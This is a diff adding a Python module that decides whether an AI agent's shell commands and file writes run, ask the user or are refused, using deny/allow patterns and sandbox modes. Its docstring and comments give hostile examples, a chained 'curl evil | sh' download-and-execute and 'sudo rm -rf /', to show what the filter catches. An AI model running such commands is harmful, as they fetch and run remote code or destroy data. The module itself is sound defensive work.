@@ -1,0 +1,275 @@
+"""The approval policy: whether one tool call runs at once, asks the user first, or is refused.
+
+Pure: `decide` reads an agent's `Permissions`, what the call would do (`Access`), the
+conversation's working directory and the grants the user gave for this conversation, and returns
+a decision the agent loop carries out. docs/security.md describes the rules as a user sees them:
+
+- `deny` patterns refuse a shell command whatever the approval mode (even with no sandbox).
+- `always`: every shell command not matching `allow`, and every write, asks.
+- `escalate`: what the sandbox allows runs at once; what it would block asks, and if the user
+  allows it that one call runs outside the sandbox.
+- `never`: nothing asks; what the sandbox would block is refused with a clear error.
+
+Patterns use `*` as their only wildcard (anything, spaces included); every other character is
+literal, so `?` and `[` in a command never surprise anyone. Because `git diff*` must not let
+`git diff; curl evil | sh` through, an `allow` pattern (and a remembered grant) never matches a
+command holding a shell control operator. A `deny` pattern errs the other way: it is tried on
+every simple command of the line and on each of their tails, so `cd x && sudo rm -rf /` meets
+`rm -rf /*`. Deny patterns are a tripwire, not a boundary: the sandbox is the boundary.
+"""
+
+from __future__ import annotations
+
+import re
+import shlex
+from collections.abc import Iterable, Sequence
+from dataclasses import dataclass
+from functools import lru_cache
+from pathlib import Path
+from typing import Literal
+
+from openvaala_server.domain.permissions import Access, Permissions
+
+Answer = Literal["allow", "allow_conversation", "deny"]
+ANSWERS: tuple[Answer, ...] = ("allow", "allow_conversation", "deny")
+
+# How many leading words of a command an "allow for this conversation" covers: `git push origin`
+# grants `git push …`, `pytest` grants `pytest …`.
+PREFIX_WORDS = 2
+
+# Anything that lets one command line run a second command, redirect, or substitute output.
+_CONTROL = re.compile(r";|&|\||`|\$\(|<|>|\n|\r")
+# Where a command line splits into simple commands, for deny matching (errs on splitting more).
+_SEGMENT_SPLIT = re.compile(r"&&|\|\||;|&|\||`|\$\(|\(|\)|<|>|\n|\r")
+
+
+@dataclass(frozen=True)
+class Run:
+    """Run the call now; `outside_sandbox` for a call the user's grant lets past the sandbox."""
+
+    outside_sandbox: bool = False
+
+
+@dataclass(frozen=True)
+class Ask:
+    """Ask the user first. `reason` is what the prompt shows; `outside_sandbox`: if allowed, the
+    call runs outside the sandbox (the sandbox would block it)."""
+
+    reason: str
+    outside_sandbox: bool = False
+
+
+@dataclass(frozen=True)
+class Refuse:
+    """Never run it; `reason` becomes the tool's error result."""
+
+    reason: str
+
+
+Decision = Run | Ask | Refuse
+
+
+@dataclass(frozen=True)
+class Grant:
+    """An "allow for this conversation": same tool, and same command prefix or same path.
+
+    `kind` is "command" (pattern: the first words of a command, `shlex.join`ed) or "path"
+    (pattern: an absolute path, symlinks resolved). `outside_sandbox`: the approved call ran
+    outside the sandbox, so matching calls may too; otherwise the grant only skips the question.
+    """
+
+    tool: str
+    kind: Literal["command", "path"]
+    pattern: str
+    outside_sandbox: bool = False
+
+
+# -- patterns -----------------------------------------------------------------------------
+
+
+def has_control_operator(command: str) -> bool:
+    return _CONTROL.search(command) is not None
+
+
+@lru_cache(maxsize=256)
+def _compile(pattern: str) -> re.Pattern[str]:
+    parts = (re.escape(part) for part in _squash(pattern).split("*"))
+    return re.compile(".*".join(parts), re.DOTALL)
+
+
+def _squash(text: str) -> str:
+    return " ".join(text.split())
+
+
+def pattern_matches(pattern: str, text: str) -> bool:
+    """Whole-text match; `*` matches anything, runs of whitespace count as one space."""
+    return _compile(pattern).fullmatch(_squash(text)) is not None
+
+
+def allowed_by(patterns: Iterable[str], command: str) -> str | None:
+    """The `allow` pattern matching `command`, or None. Never one with control operators."""
+    if has_control_operator(command):
+        return None
+    return next((p for p in patterns if pattern_matches(p, command)), None)
+
+
+def denied_by(patterns: Sequence[str], command: str) -> str | None:
+    """The `deny` pattern matching `command` or any simple command in it (or a tail of one)."""
+    if not patterns:
+        return None
+    for candidate in _deny_candidates(command):
+        for pattern in patterns:
+            if pattern_matches(pattern, candidate):
+                return pattern
+    return None
+
+
+def _deny_candidates(command: str) -> list[str]:
+    candidates = [command]
+    for segment in _SEGMENT_SPLIT.split(command):
+        for words in (segment.split(), _unquoted_words(segment)):
+            # Each tail: `sudo rm -rf /`, `env X=1 rm -rf /` meet `rm -rf /*` too.
+            candidates.extend(" ".join(words[i:]) for i in range(len(words)))
+    return candidates
+
+
+def _unquoted_words(segment: str) -> list[str]:
+    """The words as the shell reads them (`r"m" -rf` is `rm -rf`), or none if unparsable."""
+    try:
+        return shlex.split(segment)
+    except ValueError:
+        return []
+
+
+# -- grants -------------------------------------------------------------------------------
+
+
+def command_prefix(command: str) -> str | None:
+    """The prefix an "allow for this conversation" of `command` covers, or None when it can't
+    be granted (a control operator, unbalanced quotes, nothing to run)."""
+    if has_control_operator(command):
+        return None
+    try:
+        words = shlex.split(command)
+    except ValueError:
+        return None
+    return shlex.join(words[:PREFIX_WORDS]) if words else None
+
+
+def _prefix_covers(prefix: str, command: str) -> bool:
+    if has_control_operator(command):
+        return False
+    try:
+        words, wanted = shlex.split(command), shlex.split(prefix)
+    except ValueError:
+        return False
+    return bool(wanted) and words[: len(wanted)] == wanted
+
+
+def grants_for(tool: str, access: Access, outside_sandbox: bool) -> list[Grant]:
+    """What "allow for this conversation" of this call remembers; [] when it cannot be
+    remembered safely (then the answer allows this one call only)."""
+    grants: list[Grant] = []
+    if access.command is not None:
+        prefix = command_prefix(access.command)
+        if prefix is None:
+            return []
+        grants.append(Grant(tool, "command", prefix, outside_sandbox))
+    grants.extend(Grant(tool, "path", str(path), outside_sandbox) for path in access.writes)
+    return grants
+
+
+def _covered(grants: Sequence[Grant], tool: str, access: Access, outside_sandbox: bool) -> bool:
+    mine = [g for g in grants if g.tool == tool and (g.outside_sandbox or not outside_sandbox)]
+    if access.command is None and not access.writes:
+        return False
+    if access.command is not None and not any(
+        g.kind == "command" and _prefix_covers(g.pattern, access.command) for g in mine
+    ):
+        return False
+    paths = {g.pattern for g in mine if g.kind == "path"}
+    return all(str(path) in paths for path in access.writes)
+
+
+# -- the decision -------------------------------------------------------------------------
+
+
+def decide(
+    permissions: Permissions,
+    tool: str,
+    access: Access | None,
+    workspace: Path,
+    grants: Sequence[Grant] = (),
+    protected: Sequence[Path] = (),
+) -> Decision:
+    """What to do with one call of `tool`. `workspace` and `protected` are resolved paths.
+
+    `access` None: the tool touches nothing the sandbox guards (the collaboration tools)."""
+    if access is None:
+        return Run()
+    for path in access.writes:
+        if any(_within(path, p) for p in protected):
+            return Refuse(
+                f"Refused: {path} is in the OpenVaala data or configuration directory, "
+                "which no tool may change."
+            )
+    if access.command is not None:
+        pattern = denied_by(permissions.deny, access.command)
+        if pattern is not None:
+            return Refuse(
+                f"Refused: the command matches the deny pattern {pattern!r} of this agent's "
+                "configuration. It did not run."
+            )
+    blocked = _blocked(permissions, access, workspace)
+    if permissions.approval == "never":
+        if blocked:
+            why = "; ".join(_blocked(permissions, access, workspace, for_refusal=True))
+            return Refuse(
+                f"Refused: {why}. The sandbox does not allow that, and this agent's approval "
+                'setting is "never", so nobody can allow it. It did not run.'
+            )
+        return Run()
+    reasons = list(blocked)
+    if permissions.approval == "always":
+        if access.command is not None and allowed_by(permissions.allow, access.command) is None:
+            reasons.append('approval is "always": shell commands not in `allow` ask first')
+        if access.writes and not blocked:
+            reasons.append('approval is "always": every write asks first')
+    if not reasons:
+        return Run()
+    if _covered(grants, tool, access, bool(blocked)):
+        return Run(outside_sandbox=bool(blocked))
+    return Ask("; ".join(reasons), outside_sandbox=bool(blocked))
+
+
+def _blocked(
+    permissions: Permissions, access: Access, workspace: Path, *, for_refusal: bool = False
+) -> list[str]:
+    """Why the sandbox would stop this call, one phrase per reason (none: it may run).
+
+    A request to leave the sandbox is put in the model's own words (its justification), which
+    is what the user weighs; a refusal tells the model what it asked for instead."""
+    if permissions.sandbox == "off":
+        return []
+    reasons: list[str] = []
+    if access.outside_sandbox is not None:
+        if for_refusal:
+            reasons.append("the call asks to run outside the sandbox")
+        else:
+            reasons.append(
+                access.outside_sandbox.strip()
+                or "the model asks to run this outside the sandbox (it gave no reason)"
+            )
+    if permissions.sandbox == "read-only":
+        reasons.extend(f"writes {p}, and the sandbox is read-only" for p in access.writes)
+    else:
+        reasons.extend(
+            f"writes {p}, outside the working directory {workspace}"
+            for p in access.writes
+            if not _within(p, workspace)
+        )
+    return reasons
+
+
+def _within(path: Path, root: Path) -> bool:
+    return path == root or root in path.parents
